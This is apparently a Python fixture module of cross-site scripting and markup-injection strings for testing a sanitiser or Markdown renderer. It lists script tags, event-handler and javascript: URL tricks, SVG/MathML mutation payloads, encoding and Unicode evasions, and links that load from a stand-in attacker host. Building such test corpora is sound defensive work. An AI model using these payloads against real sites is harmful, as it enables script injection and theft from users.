"""What people type who mean harm: texts that would act in some sanitiser, parser or browser.

Our own, after what the OWASP list of ways round filters and the fixtures of sanitisers are about.
Each says alert(1) or asks evil.example where it would have worked.
"""

from __future__ import annotations

ELEMENTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/a.js>",
    "<script\n>alert(1)</script\n>", "<script/xss src=https://evil.example></script>",
    "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)", "</script><script>alert(1)</script>", "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>", "<script\x0c>alert(1)</script>", "＜script＞alert(1)",
    "<img src=x onerror=alert(1)>", "<img src=x:x onerror\t=alert(1)>",
    "<IMG SRC=x oNeRrOr=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>", "<img src=x onerror=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">", "<img src=https://evil.example/pixel.gif>",
    "<image src=x onerror=alert(1)>", "<img srcset='https://evil.example/a 1x'>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<applet code=x archive=https://evil.example>", "<frameset onload=alert(1)><frame>",
    "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=import href=//evil.example>",
    "<form action=https://evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1) type=submit>",
    "<input autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)><summary>x",
    "<marquee onstart=alert(1)>x</marquee>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<video poster=//evil.example>",
    "<dialog open onclose=alert(1)>x</dialog>", "<x onclick=alert(1) tabindex=1 autofocus>x</x>",
    "<p onpointerenter=alert(1)>x</p>", "<blockquote onclick=alert(1) cite=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<a href='https://a.example' onclick='alert(1)'>x</a>",
    "<a href='https://a.example' target=_top id=main name=forms class=skip-link>x</a>",
    "<li value=1 onclick=alert(1)>x",
    "<xml id=i><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>",
    "<slot onslotchange=alert(1)><p slot>x", "<portal src=https://evil.example>",
)  # fmt: skip
"""Elements and attributes."""

STYLES = (
    "<style>*{background:url(https://evil.example)}</style>", "<style>@import '//evil.example';",
    "<p style=position:fixed;inset:0;background:url(//evil.example)>x</p>",
    "<p style='width:expression(alert(1))'>x</p>", "<div style='behavior:url(//evil.example)'>x",
    "<p style=\"background:\\75rl(//evil.example)\">x</p>",
    "<style><!--</style><script>alert(1)//-->", "<style/onload=alert(1)>",
    "<p style=animation-name:x onanimationend=alert(1)>x</p>",
    "</style><img src=x onerror=alert(1)>", "<p class=error-summary role=alert>Pay again</p>",
)  # fmt: skip

FOREIGN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&lpar;1)</script>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=//evil.example#x /></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><image href=//evil.example /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>",
    "<svg></p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><p><title><noscript><style></title><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><maction xlink:href=javascript:alert(1)>x",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<math><mtext><mglyph><svg><textarea><path id="</textarea><img src=x onerror=alert(1)>">',
)  # fmt: skip
"""SVG and MathML, whose rules of parsing are others: what is text inside is markup outside."""

MUTATING = (
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script>",
    "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
    "<noembed><p title=\"</noembed><svg onload=alert(1)>\">",
    "<noframes><p title='</noframes><svg onload=alert(1)>'>",
    "<title><p title=\"</title><svg onload=alert(1)>\">",
    "</title></textarea></style></noscript><svg onload=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>",
    "<!--!><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1.0?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<table><a href=javascript:alert(1)><tr>x",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<a/href='https://a.example'\n</a><svg onload=alert(1)>",
    "</p></div></li></ol></section></main><script>alert(1)</script>", "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "`onmouseover=alert(1)`",
    "]]></content></entry><entry><title>x</title>", "{{ 7*7 }}{% import os %}${7*7}<%= 7*7 %>",
    "|safe }}<script>alert(1)</script>",
)  # fmt: skip
"""What parses one way and, written out, another; and what breaks out of where it stands."""

ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#x3C;svg onload=alert(1)&#x3E;",
    "&#0000060script>alert(1)</script>", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&#0;&#xD800;&#x110000;<b>x</b>", "\\<script>alert(1)\\</script>",
    "&NewLine;<a href=jav&Tab;ascript&colon;alert(1)>x</a>",
)  # fmt: skip

LINKS = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)", "[x](java\x00script:alert(1))", "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](jav&#x09;ascript:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](javascript&#58alert(1))",
    "[x](java&NewLine;script:alert(1))", "[x](javascript\\:alert(1))", "[x](vbscript:msgbox(1))",
    "[x](vb&Tab;script:msgbox)", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHN2Zz4=)", "[x](DATA&colon;text/html,x)",
    "[x](blob:https://a.example/x)", "[x](file:///etc/passwd)",
    "[x](view-source:https://a.example)", "[x](filesystem:https://a.example)",
    "[x](//evil.example)", "[x](\\\\\\\\evil.example)", "[x](/\\evil.example)", "[x](?q=1)",
    "[x](#main)", "[x](https://user:word@evil.example)", "[x](https:javascript:alert(1))",
    "[x](https://a.example\" onclick=\"alert(1))", "[x](https://a.example 'onclick=alert(1)')",
    "[x](<https://a.example> \"\\\" onclick=alert(1)\")",
    "[x](https://a.example/'><svg/onload=alert(1)>)", "![x](https://evil.example/a.png)",
    "![x](x\"onerror=\"alert(1))", "[![x](//evil.example/a)](javascript:alert(1))",
    "![](javascript:alert(1))", "<javascript:alert(1)>", "<https://a.example/\"onclick=alert(1)>",
    "<data:text/html,alert>", "<vbscript:x>", "<HTTPS://a.example/<svg>",
    "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: <data:text/html,x> \"t\"",
    "[<script>alert(1)</script>](https://a.example)",
    "[[x](javascript:alert(1))](https://a.example)",
    "[x](https://a.example)<img src=x onerror=alert(1)>",
    "[a](https://a.example/`<svg onload=alert(1)>`)", "**[x*](javascript:alert(1))**",
    "`</code><script>alert(1)</script>`", "``` html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>", "<scr\n\n> ipt>alert(1)</script>",
    "- <script>\n- alert(1)</script>", "> <img src=x\n> onerror=alert(1)>",
    "| <b> | onerror=x |\n|--|--|", "*<img src=x onerror=alert(1)*>", "javascript:alert(1)",
    "https://evil.example/<script>alert(1)</script>", "https://a.example/?q=\"onclick=alert(1)",
)  # fmt: skip
"""Markdown whose addresses act, and markup that hides in Markdown."""

TURNED = (
    "\u202e<script>alert(1)</script>\u202c", "\u2066<img src=x onerror=alert(1)>\u2069",
    "[\u202emoc.elpmaxe\u202c](https://evil.example)", "[x](https://a.example/\u202egnp.exe)",
    "<scr\u200bipt>alert(1)</scr\u200bipt>", "<ſcript>alert(1)</ſcript>",
    "[x](ｊavascript:alert(1))", "[x](java\u00adscript:alert(1))", "[x](\u3000javascript:alert(1))",
    "\ufeff<script>alert(1)</script>", "<img src=x onerror\u2028=alert(1)>",
    "\u2028<svg onload=alert(1)>",
)  # fmt: skip
"""Signs that turn, hide or pass for others."""

NESTED = tuple(
    around * 40 + act
    for around in ("> ", "- ", "1. ", "> - ", "*_", "[", "<div>", "<b><i>")
    for act in ("<script>alert(1)</script>", "[x](javascript:alert(1))")
)
"""The same, however deep."""

TEXTS = (*ELEMENTS, *STYLES, *FOREIGN, *MUTATING, *ENTITIES, *LINKS, *TURNED, *NESTED)

FRAGMENTS = (
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "<svg>", "</svg>", "<math>", "<mtext>",
    "<style>", "</style>", "<title>", "</title>", "<noscript>", "</noscript>", "<template>",
    "<table>", "<p title=\"", "\">", "'", '"', "=", "&", "&lt;", "&#x3c;", "&amp;", ";", "&colon;",
    "&Tab;", "script", "<script>", "</script>", "<img src=x onerror=alert(1)>", " onclick=alert(1)",
    " style=x", "javascript:", "alert(1)", "data:text/html,", "https://a.example", "[", "]", "(",
    ")", "](", "![", "<https://", "`", "```", "*", "**", "_", "\\", "\n", "\n\n", "> ", "- ", "1. ",
    "    ", "\t", "\x00", "\u202e", "x",
)  # fmt: skip
"""Pieces, for a test to make others of."""
